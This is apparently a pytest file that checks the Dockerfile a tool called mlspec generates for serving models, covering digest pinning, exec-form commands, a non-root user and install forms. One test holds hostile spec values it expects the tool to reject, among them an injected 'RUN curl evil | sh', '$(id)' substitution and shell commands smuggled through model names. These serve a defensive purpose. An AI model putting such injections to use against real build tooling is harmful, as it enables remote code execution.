"""`generated/Dockerfile.serve` (issue #17 item 8): written by `mlspec compile` when `project.serve` asks.

Docker is not installed where these tests run, so the image is not built: the tests parse the
Dockerfile into instructions and check its structure instead (one FROM, pinned by digest; exec-form
RUN, COPY and CMD whose arguments are JSON strings; mlspec installed with the serve extra and the
constraints file; a non-root USER before the command; the command is one `mlspec serve` accepts), for
each install form, and that hostile spec values never reach it.
"""

from __future__ import annotations

import json
import re
import shutil
from pathlib import Path

import pytest

from mlspec.cli.serve import serve_command
from tests.conftest import run_cli
from tests.golden.test_golden import GOLDEN, seed_pins

DIGEST = "python:3.12-slim@sha256:" + "4a1f0c2b3d5e6f70" * 4
GIT = "git+https://github.com/acme/mlspec@" + "a" * 40
INSTRUCTION = re.compile(r"^([A-Z]+) (.*)$")


def instructions(text: str) -> list[tuple[str, str]]:
    """(keyword, arguments) of each instruction; every line is a comment, empty, or one whole instruction
    (the generator writes no line continuations, so a line that is neither is a defect)."""
    found = []
    for line in text.splitlines():
        if not line or line.startswith("#"):
            continue
        match = INSTRUCTION.match(line)
        assert match, f"not one instruction: {line!r}"
        found.append((match[1], match[2]))
    return found


def exec_form(arguments: str) -> list[str]:
    """The arguments of an exec-form instruction: a JSON array of strings, nothing else."""
    value = json.loads(arguments)
    assert isinstance(value, list) and value and all(isinstance(v, str) for v in value), arguments
    return value


def compiled(tmp_path: Path, serve: str, install: str | None = None) -> Path:
    """The golden 'everything' project with `serve` as its project.serve block (and `install`), compiled."""
    root = tmp_path / "everything"
    shutil.copytree(GOLDEN / "everything" / "specs", root / "specs")
    seed_pins("everything", root)
    project = root / "specs" / "project.yaml"
    text = project.read_text(encoding="utf-8")
    text = text[:text.index("  serve:\n")] + serve
    if install is not None:
        text = re.sub(r'(?m)^  install: .*$', f"  install: {json.dumps(install)}", text)
    project.write_text(text, encoding="utf-8")
    out = run_cli("-C", str(root), "compile")
    assert out.code == 0, out.stderr
    return root


def check_structure(text: str, *, port: int, workers: int, models: list[str]) -> list[tuple[str, str]]:
    steps = instructions(text)
    keywords = [k for k, _ in steps]
    assert keywords[0] == "FROM" and keywords.count("FROM") == 1
    assert re.fullmatch(r"\S+@sha256:[0-9a-f]{64}", steps[0][1])
    for keyword, arguments in steps:
        if keyword in ("RUN", "COPY", "CMD"):
            exec_form(arguments)  # never shell form: no spec text is ever read by a shell
    user = keywords.index("USER")
    assert steps[user][1].split(":")[0] not in ("0", "root") and user > max(i for i, k in enumerate(keywords)
                                                                            if k in ("RUN", "COPY"))
    assert keywords[-1] == "CMD" and user < len(keywords) - 1
    assert ("EXPOSE", str(port)) in steps
    command = exec_form(steps[-1][1])
    assert command[:2] == ["mlspec", "serve"]
    # the command line is one `mlspec serve` accepts, with the port, workers and models the spec asked for
    context = serve_command.make_context("serve", command[2:])
    assert (context.params["port"], context.params["workers"], list(context.params["models"])) == \
        (port, workers, models)
    assert context.params["host"] == "0.0.0.0"  # reachable from outside the container
    return steps


def pip_install(steps: list[tuple[str, str]]) -> list[str]:
    runs = [exec_form(a) for k, a in steps if k == "RUN"]
    installs = [r for r in runs if r[:4] == ["python", "-m", "pip", "install"]]
    assert len(installs) == 1, runs
    return installs[0]


def test_the_golden_dockerfile_is_sound_and_copies_what_compile_wrote(tmp_path: Path) -> None:
    text = (GOLDEN / "everything" / "expected" / "generated" / "Dockerfile.serve").read_text(encoding="ascii")
    steps = check_structure(text, port=9000, workers=2, models=["churn_logreg"])
    digest = "4a1f0c2b3d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f8"  # as the golden spec writes it
    assert steps[0] == ("FROM", f"python:3.12-slim@sha256:{digest}")
    pip = pip_install(steps)
    assert pip[-1] == "mlspec-gitops[postgres,serve]==0.1.0"  # the spec's pin, its extras and serve
    assert pip[pip.index("-c") + 1] == "generated/constraints.txt"
    copied = [exec_form(a)[0] for k, a in steps if k == "COPY"]
    assert copied == ["generated/constraints.txt", "specs", "generated"]
    pins = (GOLDEN / "everything" / "expected" / "generated" / "constraints.txt").read_text(encoding="utf-8")
    assert re.search(r"(?m)^fastapi==", pins) and re.search(r"(?m)^uvicorn==", pins)  # the serve extra is pinned
    manifest = json.loads((GOLDEN / "everything" / "expected" / "generated" / "manifest.json").read_text())
    assert "generated/Dockerfile.serve" in manifest["files"]


@pytest.mark.parametrize(("install", "pip_tail", "copies"), [
    ("mlspec-gitops==0.1.0", ["-c", "generated/constraints.txt", "mlspec-gitops[postgres,serve]==0.1.0"],
     ["generated/constraints.txt", "specs", "generated"]),
    (GIT, ["-c", "generated/constraints.txt", f"mlspec-gitops[postgres,serve] @ {GIT}"],
     ["generated/constraints.txt", "specs", "generated"]),
    ("requirements/mlspec.txt", ["--require-hashes", "-r", "requirements/mlspec.txt"], ["requirements/mlspec.txt",
                                                                                         "specs", "generated"]),
    (".", ["-c", "generated/constraints.txt", ".[postgres,serve]"], ["."]),  # the repository is the package
])
def test_each_install_form_gives_a_sound_dockerfile(tmp_path: Path, install: str, pip_tail: list[str],
                                                    copies: list[str]) -> None:
    serve = f'  serve: {{dockerfile: true, base_image: "{DIGEST}", port: 8080}}\n'
    root = compiled(tmp_path, serve, install)
    text = (root / "generated" / "Dockerfile.serve").read_text(encoding="ascii")
    steps = check_structure(text, port=8080, workers=1, models=["churn_baseline", "churn_gbm", "churn_logreg"])
    assert pip_install(steps)[-len(pip_tail):] == pip_tail
    assert [exec_form(a)[0] for k, a in steps if k == "COPY"] == copies


def test_no_dockerfile_unless_asked_and_the_manifest_unchanged_without_serve(tmp_path: Path) -> None:
    root = compiled(tmp_path, f'  serve: {{dockerfile: false, base_image: "{DIGEST}"}}\n')
    assert not (root / "generated" / "Dockerfile.serve").exists()
    assert "serve" not in json.loads((root / "generated" / "manifest.json").read_text())["project"]
    shutil.rmtree(tmp_path / "everything")
    root = compiled(tmp_path, "")
    assert not (root / "generated" / "Dockerfile.serve").exists()
    assert "serve" not in json.loads((root / "generated" / "manifest.json").read_text())["project"]
    # a Dockerfile left from before is removed once the spec stops asking (compile owns what it listed)
    shutil.rmtree(tmp_path / "everything")
    root = compiled(tmp_path, f'  serve: {{dockerfile: true, base_image: "{DIGEST}"}}\n')
    assert (root / "generated" / "Dockerfile.serve").is_file()
    project = root / "specs" / "project.yaml"
    project.write_text(project.read_text().replace("dockerfile: true", "dockerfile: false"))
    out = run_cli("-C", str(root), "compile")
    assert out.code == 0, out.stderr
    assert not (root / "generated" / "Dockerfile.serve").exists()


@pytest.mark.parametrize(("serve", "code"), [
    # a new instruction smuggled into the base image, a shell-form command through a model name
    ('  serve: {dockerfile: true, base_image: "python:3@sha256:' + "0" * 64 + '\\nRUN curl evil | sh"}\n', "MLS225"),
    ('  serve: {dockerfile: true, base_image: "python:3 AS x@sha256:' + "0" * 64 + '"}\n', "MLS225"),
    ('  serve: {dockerfile: true, base_image: "$(id)@sha256:' + "0" * 64 + '"}\n', "MLS225"),
    ('  serve: {dockerfile: true, base_image: "python:3.12-slim"}\n', "MLS225"),
    ('  serve: {dockerfile: true, base_image: "python@sha256:' + "0" * 63 + '"}\n', "MLS225"),
    (f'  serve: {{dockerfile: true, base_image: "{DIGEST}", models: ["churn_gbm\\"]\\nCMD [\\"sh"]}}\n', "MLS108"),
    (f'  serve: {{dockerfile: true, base_image: "{DIGEST}", models: ["churn gbm; sh"]}}\n', "MLS108"),
    (f'  serve: {{dockerfile: true, base_image: "{DIGEST}", port: 0}}\n', "MLS105"),
])
def test_hostile_serve_settings_are_refused_before_anything_is_written(tmp_path: Path, serve: str, code: str) -> None:
    root = tmp_path / "everything"
    shutil.copytree(GOLDEN / "everything" / "specs", root / "specs")
    project = root / "specs" / "project.yaml"
    text = project.read_text(encoding="utf-8")
    project.write_text(text[:text.index("  serve:\n")] + serve, encoding="utf-8")
    out = run_cli("-C", str(root), "compile")
    assert out.code == 1, out.stderr
    assert re.search(rf"specs/project\.yaml:\d+:\d+: {code} ", out.stderr), out.stderr
    assert not (root / "generated").exists()
